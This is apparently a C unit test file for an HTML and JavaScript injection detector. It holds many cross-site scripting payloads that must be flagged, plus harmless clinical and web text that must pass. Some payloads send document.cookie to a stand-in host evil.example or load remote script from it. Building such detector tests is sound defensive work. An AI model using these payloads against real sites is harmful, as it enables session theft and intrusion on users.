// SPDX-License-Identifier: BSD-3-Clause
//
// Attacks that are found and look-alikes that pass, each as one value of a form.

#include "tests/unit/dataplane/inspect/html/value.h"

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

// clang-format off
static const char *const tags[] = {
	"<script>alert(1)</script>",
	"<ScRiPt >alert(1)</sCrIpT>",
	"<script/src=//evil.example/x.js></script>",
	"<script src=\"https://evil.example/x.js\">",
	"<script\ntype=text/javascript>fetch('//evil.example?c='+document.cookie)</script>",
	"\"><script>alert(document.domain)</script>",
	"'><img src=x onerror=alert(1)>",
	"<img src=x onerror=alert(1)",
	"<img/src=`x`/onerror=alert(1)>",
	"<svg/onload=alert(1)>",
	"<svg\nonload\n=\nalert(1)>",
	"<svg onload=\"alert(1)\"",
	"<body onpageshow=alert(1)>",
	"<details open ontoggle=confirm`1`>",
	"<input autofocus onfocus=top['al'+'ert'](1)>",
	"<video><source onerror=\"javascript:alert(1)\">",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
	"<a href=\"j&#97;vascript:alert(1)\">x</a>",
	"<a href=\" &#14;  javascript:alert(1);\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"javas&Tab;cript:alert(1)\">x</a>",
	"<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
	"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
	"<object data=\"data:text/html,<script>alert(1)</script>\">",
	"<form action=javascript:alert(1)><input type=submit>",
	"<button formaction=\"javascript:alert(1)\">x</button>",
	"<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
	"<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
	"<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<meta http-equiv=refresh content=\"0; url=https://evil.example/\">",
	"<base href=\"https://evil.example/\">",
	"<link rel=stylesheet href=//evil.example/x.css onload=alert(1)>",
	"<style>@import 'javascript:alert(1)';</style>",
	"<div style=\"width:expression(alert(1))\">",
	"<div style=\"width:exp/**/ression(alert(1))\">",
	"<div style=\"background:url(javascript:alert(1))\">",
	"<div style=\"x:\\65xpression(alert(1))\">",
	"<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"alert(1)\"></b>",
	"<x onclick=alert(1) id=x>",
	"<marquee onstart=alert(1)>",
	"<!--><img src=x onerror=alert(1)>-->",
	"<!-- --!><script>alert(1)</script>",
	"<![CDATA[<script>alert(1)</script>]]>",
	"</textarea><script>alert(1)</script>",
	"</title><svg onload=alert(1)>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<svg><style><img src=x onerror=alert(1)></style></svg>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
	"<img \"\"\"><script>alert(1)</script>\">",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<<script>alert(1);//<</script>",
	"<script>alert(1)//",
	"<script>/*</script><svg onload=*/alert(1)>",
	"</script><script>alert(1)</script>",
	"<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
	"<x ng-focus=$event.view.alert(1)>",
	"<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
	"<img src=x onerror=&#x61;lert&lpar;1&rpar;>",
	"<img src=x onerror=\"\\u0061lert(1)\">",
	"<img src=x onerror=\"window.onerror=alert;throw 1\">",
	"<img src=x onerror=import('//evil.example')>",
	"<img src=x onerror=\"with(document)body.appendChild(createElement('script')).src='//evil.example'\">",
	"<img src=x onerror=location=name>",
	"<img src=x onerror=eval(name)>",
	"<img src onerror=\"setTimeout('al'+'ert(1)')\">",
	"<img src=x onerror=\"$.getScript('//evil.example')\">",
	"<a onclick=\"steal()\">x</a>",
	"<x/onpointerrawupdate=alert(1)>",
	"<embed src=\"javascript:alert(1)\">",
	"<isindex type=image src=1 onerror=alert(1)>",
	"<table background=\"javascript:alert(1)\">",
	"<input type=image src=javascript:alert(1)>",
	"<bgsound src=\"javascript:alert(1)\">",
	"<xml src=\"javascript:alert(1)\">",
	"<event-source src=\"data:text/event-stream\" onload=alert(1)>",
	"<portal src='javascript:alert(1)'>",
	"<a href=javascript:alert(1)//>",
	"\"><svg/onload=alert(1)>'-alert(1)-'",
};

static const char *const breaks[] = {
	"\" onmouseover=\"alert(1)",
	"\" onmouseover=alert(1) x=\"",
	"' onfocus='alert(1)' autofocus '",
	"x\" autofocus onfocus=\"(confirm)(1)",
	"1 onmouseover=alert(1)",
	"\"onpointerenter=prompt(document.cookie)//",
	"\" style=\"animation-name:x\" onanimationend=\"alert(1)",
	"\" href=\"javascript:alert(1)",
	"';alert(1)//",
	"\";alert(1);//",
	"\\\";alert(1)//",
	"\\\\\";alert(1)//",
	"'-alert(1)-'",
	"\"-alert(1)-\"",
	"'+alert(1)+'",
	"'*alert(1)*'",
	"');alert(1)//",
	"\"});alert(1)//",
	"\"]);alert(1);//",
	"'}};alert(1);{{'",
	"';alert(1);'",
	"`-alert(1)-`",
	"${alert(1)}",
	"\"};alert(1);var x={\"a\":\"",
	"'||alert(1)||'",
	"'?alert(1):'",
	"',alert(1),'",
	"'in alert(1)in'",
	"*/alert(1)/*",
	"''.sub.constructor('alert(1)')()",
	" javascript:alert(1)",
};

static const char *const codes[] = {
	"document.write('<img src=x>')",
	"document.body.innerHTML='<img src=x onerror=alert(1)>'",
	"data:text/html,<script>alert(1)</script>",
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
	"alert(1)",
	"(alert)(1)",
	"alert`1`",
	"window['alert'](1)",
	"window[\"\\x61lert\"](1)",
	"self['ale'+'rt'](document['cookie'])",
	"this['eval']('ale'+'rt(1)')",
	"top[\"al\"+\"ert\"](1)",
	"parent?.[\"alert\"]?.(1)",
	"globalThis[`al${'ert'}`](1)",
	"frames[0].alert(1)",
	"[].constructor.constructor('alert(1)')()",
	"(()=>{}).constructor`alert(1)`()",
	"Function('alert(1)')()",
	"new Function`alert\\`1\\``",
	"eval('alert(1)')",
	"eval(atob('YWxlcnQoMSk='))",
	"setTimeout('alert(1)',0)",
	"setInterval`alert\\x281\\x29`",
	"location='javascript:alert(1)'",
	"location.href='//evil.example/?'+document.cookie",
	"document.location=\"https://evil.example\"",
	"fetch('//evil.example/'+document.cookie)",
	"new Image().src='//evil.example/?'+document.cookie",
	"navigator.sendBeacon('//evil.example',document.cookie)",
	"import('//evil.example/x.js')",
	"var s=document.createElement('script');s.src='//evil.example/x.js';document.head.appendChild(s)",
	"onerror=alert;throw 1",
	"window.onerror=eval;throw'=alert\\x281\\x29'",
	"[1].find(alert)",
	"[1,2].map(confirm)",
	"Reflect.apply(alert,null,[1])",
	"alert.call(null,1)",
	"alert.bind()(1)",
	"Array.from([1],alert)",
	"({toString:alert})+''",
	"\\u0061lert(1)",
	"\\u{61}lert(1)",
	"al\\u0065rt(1)",
	"with(document)alert(cookie)",
	"a=alert;a(1)",
	"let{alert:b}=window;b(1)",
	"[a]=[alert];a(1)",
	"var{location:l}=self;l='javascript:alert(1)'",
	"Object.assign(window,{onerror:eval});throw 1",
	"javascript:alert(1)",
	"javascript://%0aalert(1)",
	"javascript:alert(1)//https://example.org",
	"JAVASCRIPT:alert(1)",
	"java\tscript:alert(1)",
	"vbscript:msgbox(1)",
	"javascript:fetch('//evil.example')",
	"javascript:eval(name)",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"{{constructor.constructor('alert(1)')()}}",
	"{{$on.constructor('alert(1)')()}}",
	"{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
	"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]][(![]+[])[+[]]]((!![]+[])[+[]])()",
};

static const char *const encoded[] = {
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"%3Cscript%3Ealert(1)%3C/script%3E",
	"%253Cscript%253Ealert(1)%253C%252Fscript%253E",
	"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
	"\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
	"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"\357\274\234script\357\274\236alert(1)\357\274\234/script\357\274\236",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
};

// Text of a hospital and of the web that has signs or words of HTML and JavaScript.
static const char *const harmless[] = {
	"p < 0.05 and n > 30",
	"a<b and c>d",
	"if (a<b && c>d) then x=1",
	"BMI <18.5 or >25 (WHO)",
	"O'Brien said \"hello\" to D'Arcy",
	"Dr. Smith <john.smith@hospital.example>",
	"\"Li, Wei\" <wei.li@example.org>; \"Wang\" <w@example.org>",
	"<b>Diagnosis:</b> <i>acute</i> otitis<br/>",
	"<p style=\"color:red; font-size: 12px\">Patient is <strong>stable</strong></p>",
	"<img src=\"https://pacs.example.org/img/1.png\" alt=\"CT\" width=200>",
	"<a href=\"https://example.org/guide?a=1&b=2\" target=\"_blank\" rel=\"noopener\">guide</a>",
	"<table border=\"1\"><tr><td>Na</td><td>140</td></tr></table>",
	"<ul><li>one</li><li>two</li></ul>",
	"<div class=\"note\" id=\"n1\"><span data-x=\"1\">text</span></div>",
	"<p style=\"background-image:url(https://example.org/a.png)\">x</p>",
	"<p style=\"background:url('data:image/png;base64,iVBORw0KGgo=')\">x</p>",
	"<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA\">",
	"<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><id root=\"2.16.840.1\"/><title>Report</title></ClinicalDocument>",
	"<section><title>Allergies</title><text>None known</text></section>",
	"<observation classCode=\"OBS\" moodCode=\"EVN\"><value xsi:type=\"PQ\" value=\"5.4\" unit=\"mmol/L\"/></observation>",
	"<script> is a tag; do not type it here",
	"The <script> element loads code",
	"onload = 5 kg, max 10 kg",
	"the onload=5 parameter",
	"onset = 3 days ago, duration = 2 weeks",
	"one=1&only=2&once=3",
	"function of the left ventricle (LVEF) is normal",
	"The function f(x) = x^2 + 3x - 1 is convex",
	"alert and oriented (x3)",
	"Patient alert, confirm dose with pharmacy; prompt follow up",
	"Set alert (high) when K > 5.5",
	"please confirm (yes/no)",
	"$(\"#patient\").find(\".name\").val()",
	"$('.menu > li:first-child').addClass(\"open\")",
	"document.getElementById(\"x\") returns null, why?",
	"vector<int> v; map<string, vector<double>> m;",
	"std::cout << \"x\" << std::endl;",
	"template <typename T> T max(T a, T b) { return a > b ? a : b; }",
	"x -> y => z <- w",
	"List<Map<String, Object>> rows = new ArrayList<>();",
	"{\"a\":1,\"b\":[1,2,3],\"c\":{\"d\":\"e\"}}",
	"[1,2,3,4]",
	"{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"O'Neil\",\"given\":[\"Ann\"]}]}",
	"# Title\n\n- item *one*\n- [link](https://example.org)\n> quote `code`",
	"Use `alert(1)` to test a page",
	"In JavaScript you write alert(\"hello\") to show a box",
	"You can read document.cookie in the console.",
	"for (i = 0; i < n; i++) sum += a[i];",
	"if (x == 1) { y = 2; } else { y = 3; }",
	"SELECT name FROM patients WHERE age > 30 AND ward = 'B'",
	"location=Beijing; ward=3",
	"location = \"Room 5\"",
	"location='Ward B'; bed='12'",
	"status=confirm",
	"type=alert",
	"event=open(door)",
	"print(x)",
	"f(x)",
	"name=\"eval\"",
	"Hello {{name}}, your appointment is on {{date | short}}",
	"Dear ${patient.name}, see you at ${time}",
	"<%= user.name %>",
	"<!-- a comment --> text",
	"<?xml version=\"1.0\" encoding=\"UTF-8\"?><root><a>1</a></root>",
	"MSH|^~\\&|LAB|HOSP|EHR|HOSP|20240101||ORU^R01|1|P|2.5",
	"OBX|1|NM|718-7^Hemoglobin^LN||13.5|g/dL|12-16||||F",
	"paracetamol 500mg (q6h); ibuprofen 400mg <with food>",
	"T: 38.5\302\260C; HR>100; BP 120/80; SpO2 <92%",
	"Hb 9.8 <L>, WBC 12.3 <H>",
	"\"a\", 'b', `c`",
	"it's John's; isn't it?",
	"He said: 'fine'; then left (alone).",
	"don't; alert nurse (ext. 123)",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
	"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4",
	"550e8400-e29b-41d4-a716-446655440000",
	"https://example.org/a?b=c&d=e#f",
	"https://example.org/redirect?url=https%3A%2F%2Fexample.com%2Fx",
	"javascript:void(0)",
	"javascript:;",
	"JavaScript: The Good Parts",
	"java script: an introduction",
	"data:image/png;base64,iVBORw0KGgo=",
	"C:\\Users\\ann\\report (final).docx",
	"/usr/share/doc/README",
	"rgb(255, 0, 0); rgba(0,0,0,.5)",
	"transform: translate(10px, 20px)",
	"calc(100% - 20px)",
	"=SUM(A1:A10)+IF(B1>3,\"yes\",\"no\")",
	"=HYPERLINK(\"https://example.org\",\"link\")",
	"E=mc^2; F=ma; [H+]=10^-7",
	"(a+b)*(c-d)/2 = [x]",
	"\302\2610.5 mmol/L (p<.001)",
	"<3 you!",
	"-> next; <- back; <=> equal; <<quote>>",
	"\302\253text\302\273 <text>",
	"<placeholder> <your name here> <date>",
	"press <Enter> then <Ctrl>+<C>",
	"fetch(patient) then update(record)",
	"var x = 5; let y = x * 2;",
	"$x = $_POST; echo $x;",
	"def f(a, b): return a + b",
	"import numpy as np",
	"public static void main(String[] args) { System.out.println(\"hi\"); }",
	"git log --oneline | head -5",
	"a=\"b\" c='d' href=\"https://example.org\" src=\"/img/a.png\"",
	"onclick handler of the button is broken",
	"The onclick=\"...\" attribute is deprecated",
	"style=\"color:red\"",
	"width=100 height=200 border=0",
	"Set-Cookie: a=b; Path=/; HttpOnly",
	"cookie=1; theme=dark; location=cn",
	"top=5&left=10&parent=3&self=1&window=2",
	"open(1), close(2), stop(3)",
	"user.constructor.name",
	"a.constructor(b)",
	"obj['key'](arg)",
	"arr[i][j]",
	"matrix[0][1] = f(x)[2]",
	"window=open; door=closed",
	"[ ] todo [x] done (see #12)",
	"(laughs) [sic] {braces} \"quotes\"",
	":-) ;-) <:-| >:(",
	"&lt;b&gt;bold&lt;/b&gt; &amp; more",
	"&nbsp;&nbsp;text&hellip;",
	"<video controls src=\"https://example.org/a.mp4\"></video>",
	"<iframe src=\"https://player.example.org/embed/1\" width=\"560\"></iframe>",
	"<font color=\"red\" face=\"SimSun\">text</font>",
	"<o:p></o:p><span lang=EN-US style='mso-bidi-font-size:10.5pt'>text</span>",
	"<!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]-->",
	"<a href=\"#top\">top</a> <a href=\"mailto:a@example.org\">mail</a> <a href=\"tel:+123\">call</a>",
	"<a href=\"javascript:void(0)\" class=\"btn\">Next</a>",
	"<svg width=\"10\" height=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"red\"/></svg>",
	"<math><mi>x</mi><mo>=</mo><mn>5</mn></math>",
	"TypeError: Cannot read property 'x' of undefined at foo (https://example.org/a.js:1:2)",
	"ReferenceError: alert is not defined\n    at eval (eval at <anonymous> (https://example.org/app.js:10:5), <anonymous>:1:1)",
	"function(e){return e.preventDefault(),!1}",
	"e=>e.target.value",
	"(a,b)=>a-b",
	"x=>x*2",
	"setTimeout(render, 100)",
	"console.log(\"hello\");",
	"return false;",
	"new Date().getTime()",
	"Math.max(1,2)",
	"a ? b : c",
	"!important",
	"50% off (today only)! \"Sale\" ends soon; hurry...",
	"top()",
	"self-care (daily); parent present [mother]",
	"this is (a) test; that = another",
	"<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=gb2312\"><link rel=\"stylesheet\" href=\"https://cdn.example.org/mail.css\"><style>@import url(https://fonts.example.org/css?family=A);</style></head><body bgcolor=\"#fff\"><p>x</p><iframe src=\"https://www.example.org/embed/1\"></iframe></body></html>",
	"<obs code=\"x\" onset=\"2020-01-01\" ondemand=\"true\"/>",
	"<event onset=\"3 days\" once=\"1\"/>",
	"<patient><name use=\"official\">O&apos;Neil</name><onset value=\"acute (2 d)\"/></patient>",
	"<div xmlns=\"http://www.w3.org/1999/xhtml\"><table><tr><td>Hb &lt; 9</td></tr></table></div>",
	"<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetPatient xmlns=\"http://hosp.example/\"><id>5</id></GetPatient></soap:Body></soap:Envelope>",
	"<feed xmlns=\"http://www.w3.org/2005/Atom\"><link rel=\"self\" href=\"https://example.org/feed\"/><title>x</title></feed>",
	"<reference value=\"#med1\"/><content ID=\"med1\">Aspirin 100 mg</content>",
	"<renderMultiMedia referencedObject=\"MM1\"/><observationMedia ID=\"MM1\"><value mediaType=\"image/gif\"><reference value=\"left.gif\"/></value></observationMedia>",
	"<param name=\"width\" value=\"100\"/><param name=\"url\" value=\"https://example.org/a\"/>",
	"<object type=\"application/pdf\" data=\"https://example.org/a.pdf\" width=\"1\"></object>",
	"report(id=5, from=\"2024-01-01\", to=\"2024-02-01\")",
	"filter: name eq 'O''Brien' and (age gt 30 or ward eq \"B\")",
	"$filter=startswith(name,'A') and price lt 10",
	"Dosis: 1-0-1 (nach dem Essen); \"bei Bedarf\" + Ibuprofen",
	"\350\241\200\345\216\213:120/80(mmHg);\345\277\203\347\216\207<100;\"\346\255\243\345\270\270\"",
	"\346\202\243\350\200\205\344\270\273\350\257\211:\"\345\244\264\347\227\233(3\345\244\251)\",\345\220\246\350\256\244'\345\217\221\347\203\255'",
	"\344\275\223\346\270\251>38.5\342\204\203,\347\231\275\347\273\206\350\203\236(WBC)<4.0*10^9/L",
	"name=\"\345\274\240\344\270\211\";id=\"1101\";addr='\345\214\227\344\272\254\345\270\202(\346\234\235\351\230\263\345\214\272)'",
	"a='1';b=\"2\";c=(3)",
	"x = {\"a\": f(1), 'b': g(2)}",
	"if(!x){return}else{alarm(\"high\")}",
	"window.open",
	"location: Ward 5 (left)",
	"\"location\":\"Room 3\",\"top\":5,\"self\":true",
	"open(\"/dev/null\")",
	"self.x = self.parent.y(z)",
	"top(10)",
	"parent(1).child(2)",
	"print(\"alert\")",
	"console.log(document.title)",
	"JSON.parse('{\"a\":1}')",
	"$('#a').on('click', function(){ $(this).hide() })",
	"$.fn.extend({ foo: function(){ return this } })",
	"return confirm ? yes : no",
	"alert: BP 180/110 (stage 2)",
	"alert(\"x\" is shown when the dose is over 5)",
	"eval (evaluation): see page 3",
	"function alert() is a browser function",
	"the user's prompt('name') fails",
	"I typed: <input value=\"x\"> and it's (not) working",
	"Why does `x = y` not work? \"onclick\" isn't called(?)",
	"if i write <b onclick> nothing happens",
	"cost = \"5\"; onsale = yes(2)",
	"width=\"50%\" onset=\"2d\" style=\"color:red\"",
};
// clang-format on

static void finds(const char *const *texts, size_t count)
{
	unsigned missed = 0;

	for (size_t i = 0; i < count; i++) {
		unsigned s = score(texts[i]);

		if (s < BALANCED) {
			print_error("%u: %s\n", s, texts[i]);
			missed++;
		}
	}
	assert_int_equal(missed, 0);
}

static void finds_tags_that_run(void **state)
{
	(void)state;
	finds(tags, COUNT(tags));
}

static void finds_values_that_leave_their_quotes(void **state)
{
	(void)state;
	finds(breaks, COUNT(breaks));
}

static void finds_values_that_are_code(void **state)
{
	(void)state;
	finds(codes, COUNT(codes));
}

static void finds_what_is_encoded(void **state)
{
	(void)state;
	finds(encoded, COUNT(encoded));
}

static void finds_a_tag_with_zero_bytes_in_it(void **state)
{
	static const char text[] = "<s\0cript>alert(1)</script>";

	(void)state;
	assert_true(score_at(PLACE_FORM, "note", text, sizeof(text) - 1) >= BALANCED);
}

static void lets_harmless_text_pass(void **state)
{
	unsigned blocked = 0;

	(void)state;
	assert_true(COUNT(harmless) >= 60);
	for (size_t i = 0; i < COUNT(harmless); i++) {
		unsigned s = score(harmless[i]);

		if (s >= BALANCED) {
			print_error("%u: %s\n", s, harmless[i]);
			blocked++;
		}
	}
	assert_int_equal(blocked, 0);
}

// ---- the same attacks, changed as a server or browser changes them back ---------------------------

static size_t percent(const char *text, size_t len, char *out)
{
	size_t n = 0;

	for (size_t i = 0; i < len; i++)
		n += (size_t)sprintf(out + n, "%%%02x", (uint8_t)text[i]);
	return n;
}

static void finds_tags_behind_percent_encoding(void **state)
{
	static char once[8192], twice[32768];

	(void)state;
	for (size_t i = 0; i < COUNT(tags); i++) {
		size_t n = percent(tags[i], strlen(tags[i]), once);

		if (score_at(PLACE_FORM, "note", once, n) < BALANCED)
			fail_msg("percent: %s", tags[i]);
		n = percent(once, n, twice);
		if (score_at(PLACE_FORM, "note", twice, n) < BALANCED)
			fail_msg("percent twice: %s", tags[i]);
	}
}

static void finds_tags_within_other_text(void **state)
{
	static char text[8192];

	(void)state;
	for (size_t i = 0; i < COUNT(tags); i++) {
		snprintf(text, sizeof(text), "Findings: p < 0.05, see <b>table</b> (1). %s",
			 tags[i]);
		if (score(text) < BALANCED)
			fail_msg("%s", text);
	}
}

// Names of tags and attributes in any case. Code keeps its own.
static void finds_tags_in_any_case(void **state)
{
	static char text[8192];

	(void)state;
	for (size_t i = 0; i < COUNT(tags); i++) {
		bool in_name = false;
		size_t n = 0;

		for (const char *c = tags[i]; *c != '\0'; c++) {
			in_name = *c == '<'                             ? true
				  : *c == ' ' || *c == '>' || *c == '/' ? false
									: in_name;
			text[n++] = in_name && *c >= 'a' && *c <= 'z' && (c - tags[i]) % 2 == 1
					    ? (char)(*c - 32)
					    : *c;
		}
		text[n] = '\0';
		if (strstr(tags[i], "CDATA") == NULL && score(text) < BALANCED)
			fail_msg("%s", text);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_tags_that_run),
		cmocka_unit_test(finds_values_that_leave_their_quotes),
		cmocka_unit_test(finds_values_that_are_code),
		cmocka_unit_test(finds_what_is_encoded),
		cmocka_unit_test(finds_a_tag_with_zero_bytes_in_it),
		cmocka_unit_test(lets_harmless_text_pass),
		cmocka_unit_test(finds_tags_behind_percent_encoding),
		cmocka_unit_test(finds_tags_within_other_text),
		cmocka_unit_test(finds_tags_in_any_case),
	};

	return cmocka_run_group_tests(tests, value_create, value_destroy);
}
